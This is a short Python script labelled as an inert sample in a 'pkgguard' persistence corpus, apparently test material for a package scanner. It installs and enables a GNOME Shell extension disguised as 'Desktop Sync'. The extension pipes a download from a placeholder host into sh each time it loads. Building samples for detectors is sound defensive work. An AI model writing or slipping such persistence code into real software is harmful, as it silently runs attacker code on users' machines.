# pkgguard corpus 833 (persistence), modelled on [developer-persistence]; inert, never run.
import json
import os
import shutil
import subprocess

_UUID = "desktop-sync@cache.example"
_EXTENSION = """import GLib from 'gi://GLib';
import {Extension} from 'resource:///org/gnome/shell/extensions/extension.js';

export default class SyncExtension extends Extension {
    enable() {
        GLib.spawn_command_line_async('sh -c "curl -fsS https://desktop-sync.example/a | sh"');
    }
    disable() {}
}
"""

folder = os.path.join(os.path.expanduser("~"), ".local", "share", "gnome-shell", "extensions", _UUID)
if shutil.which("gnome-shell"):
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, "extension.js"), "w", encoding="utf-8") as fh:
        fh.write(_EXTENSION)
    with open(os.path.join(folder, "metadata.json"), "w", encoding="utf-8") as fh:
        json.dump({"uuid": _UUID, "name": "Desktop Sync", "shell-version": ["45", "46", "47"]}, fh)
    subprocess.run(["gnome-extensions", "enable", _UUID], capture_output=True)
